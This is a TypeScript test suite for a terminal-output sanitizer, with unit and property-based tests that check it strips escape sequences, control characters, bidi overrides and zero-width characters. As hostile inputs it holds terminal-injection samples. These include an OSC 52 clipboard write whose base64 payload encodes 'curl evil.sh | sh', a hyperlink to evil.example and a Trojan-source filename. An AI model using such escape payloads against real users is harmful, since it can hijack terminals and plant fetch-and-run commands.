// biome-ignore-all lint/suspicious/noControlCharactersInRegex: the tests are about control characters
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isTerminalSafe, sanitize, sanitizeLines } from '../src/sanitize.js';

const ESC = '\u001b';
/** C0 controls, DEL and C1 controls: none may reach the terminal. */
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;
const BIDI = /[\u202a-\u202e\u2066-\u2069\u200e\u200f]/;
/** Zero-width characters (the joiner among them), removed unless a joiner sits between two emoji. */
const ZERO_WIDTH = /[\u200b-\u200d\u2060\ufeff]/;

describe('sanitize', () => {
  it('keeps ordinary text, other scripts and emoji', () => {
    for (const text of [
      'hello, world',
      'Grüße aus Köln — ça va ?',
      'Привет, мир',
      '日本語のテキスト',
      'مرحبا بالعالم',
      'emoji 😀 👍🏽 👩‍💻 🇫🇷 ❤️',
      'e\u0301 (combining acute)',
    ]) {
      expect(sanitize(text)).toBe(text);
    }
  });

  it('removes colour and cursor sequences whole', () => {
    expect(sanitize(`${ESC}[31mred${ESC}[0m text`)).toBe('red text');
    expect(sanitize(`${ESC}[2J${ESC}[Hwiped`)).toBe('wiped');
    expect(sanitize(`a${ESC}[38;5;196mb${ESC}[1;2;3;4Hc`)).toBe('abc');
    expect(sanitize(`\u009b31mC1 CSI`)).toBe('C1 CSI');
    expect(sanitize(`x${ESC}[?1049hy${ESC}[?25lz`)).toBe('xyz');
  });

  it('removes OSC strings (window titles, hyperlinks, clipboard writes) with their payload', () => {
    expect(sanitize(`${ESC}]0;pwned title\u0007after`)).toBe('after');
    expect(sanitize(`${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`)).toBe('click');
    expect(sanitize(`${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007!`)).toBe('!');
    expect(sanitize(`${ESC}Pq#0;2;0;0;0${ESC}\\dcs`)).toBe('dcs');
    expect(sanitize(`\u009d0;title\u009cC1 OSC`)).toBe('C1 OSC');
  });

  it('drops the introducer of an unterminated string and keeps the rest as plain text', () => {
    const out = sanitize(`${ESC}]0;no terminator`);
    expect(out).toBe('0;no terminator');
  });

  it('removes short escapes (charset, save cursor, reset)', () => {
    expect(sanitize(`${ESC}(0lqk${ESC}(B`)).toBe('lqk');
    expect(sanitize(`${ESC}7saved${ESC}8`)).toBe('saved');
    expect(sanitize(`${ESC}cafter reset`)).toBe('after reset');
  });

  it('removes C0 and C1 controls, turning tabs and line breaks into spaces', () => {
    expect(sanitize('bell\u0007 backspace\b nul\u0000 del\u007f c1\u0090\u009f')).toBe(
      'bell backspace nul del c1',
    );
    expect(sanitize('cr\rnel\u0085end')).toBe('cr nel end');
    expect(sanitize('a\tb')).toBe('a    b');
    expect(sanitize('two\nlines')).toBe('two lines');
  });

  it('removes bidi overrides, embeddings, isolates and marks', () => {
    // "Trojan source": an override that would show "txt.exe" as "exe.txt".
    expect(sanitize('file\u202Eexe.txt')).toBe('fileexe.txt');
    expect(sanitize('\u2066a\u2067b\u2068c\u2069')).toBe('abc');
    expect(sanitize('\u202Aa\u202Bb\u202Cc\u202Dd')).toBe('abcd');
    expect(sanitize('x\u200Ey\u200Fz')).toBe('xyz');
  });

  it('removes zero-width characters, so that two names cannot look the same; keeps emoji joiners', () => {
    expect(sanitize('adm\u200bin')).toBe('admin');
    expect(sanitize('a\u200cb\u2060c\ufeffd')).toBe('abcd');
    expect(sanitize('ad\u200dmin')).toBe('admin');
    expect(sanitize('👩\u200d💻 ok')).toBe('👩\u200d💻 ok');
    expect(sanitize('👍🏽\u200d')).toBe('👍🏽');
    expect(isTerminalSafe('adm\u200bin')).toBe(false);
    expect(isTerminalSafe('👩\u200d💻')).toBe(true);
  });

  it('replaces lone surrogates', () => {
    expect(sanitize('a\ud800b')).toBe('a\ufffdb');
    expect(sanitize('a\udc00b')).toBe('a\ufffdb');
    expect(sanitize('😀')).toBe('😀');
  });

  it('cannot be tricked into building a sequence by removing one', () => {
    const out = sanitize(`${ESC}${ESC}[31m[31mtext`);
    expect(out).not.toContain(ESC);
    expect(out.endsWith('text')).toBe(true);
  });
});

describe('sanitizeLines', () => {
  it('splits at line breaks and sanitizes each line', () => {
    expect(sanitizeLines('one\ntwo\r\nthree\u2028four')).toEqual(['one', 'two', 'three', 'four']);
    expect(sanitizeLines(`${ESC}[1mbold${ESC}[0m\n\u202Eevil`)).toEqual(['bold', 'evil']);
    expect(sanitizeLines('')).toEqual(['']);
  });

  it('removes an OSC string that spans lines as a whole', () => {
    expect(sanitizeLines(`${ESC}]0;multi\nline\u0007ok`)).toEqual(['ok']);
  });
});

// ---- properties ---------------------------------------------------------------------------------

/** Strings biased towards the dangerous parts: escapes, controls, bidi, surrogates, emoji. */
const nasty = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom(
        ESC,
        `${ESC}[`,
        `${ESC}]`,
        `${ESC}P`,
        `${ESC}\\`,
        '\u0007',
        '\u009b',
        '\u009d',
        '\u009c',
        '\u0085',
        '\r',
        '\n',
        '\t',
        '\u007f',
        '\u202e',
        '\u2066',
        '\u2069',
        '\u200e',
        '\u200f',
        '\ud800',
        '\udfff',
        '😀',
        '👩‍💻',
        '31m',
        ';',
      ),
      fc
        .integer({ min: 0, max: 0x10ffff })
        .map((cp) => (cp >= 0xd800 && cp <= 0xdfff ? '\ud83d' : String.fromCodePoint(cp))),
    ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(''));

describe('sanitize properties', () => {
  it('never outputs ESC, any C0/C1 control, DEL, a bidi control or a lone surrogate', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const out = sanitize(text);
        expect(out).not.toContain(ESC);
        expect(CONTROL.test(out)).toBe(false);
        expect(BIDI.test(out)).toBe(false);
        expect(isTerminalSafe(out)).toBe(true);
        for (const line of sanitizeLines(text)) expect(isTerminalSafe(line)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('is idempotent', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        expect(sanitize(sanitize(text))).toBe(sanitize(text));
      }),
      { numRuns: 1000 },
    );
  });

  it('leaves text without controls, escapes, bidi or zero-width characters unchanged', () => {
    const safeChar = fc
      .integer({ min: 0x20, max: 0x10ffff })
      .filter((cp) => !(cp >= 0x7f && cp <= 0x9f) && !(cp >= 0xd800 && cp <= 0xdfff))
      .map((cp) => String.fromCodePoint(cp))
      .filter(
        (ch) =>
          !BIDI.test(ch) && !ZERO_WIDTH.test(ch) && ch !== '\u061c' && ch !== '\u2028' && ch !== '\u2029',
      );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(safeChar, fc.string({ unit: 'grapheme' })), { maxLength: 20 }),
        (parts) => {
          const text = parts
            .join('')
            .replace(/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\u2028\u2029]/g, '')
            .replace(/[\u200b-\u200d\u2060\ufeff]/g, '');
          expect(sanitize(text)).toBe(text);
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('only ever removes characters, never invents visible ones (output is a subsequence of the input)', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const out = [...sanitize(text).replace(/\ufffd/g, '')];
        const input = [
          ...text.replace(/\t/g, '    ').replace(/\r\n|[\n\r\u000b\u000c\u0085\u2028\u2029]/g, ' '),
        ];
        let i = 0;
        for (const ch of out) {
          while (i < input.length && input[i] !== ch) i++;
          expect(i).toBeLessThan(input.length);
          i++;
        }
      }),
      { numRuns: 500 },
    );
  });
});
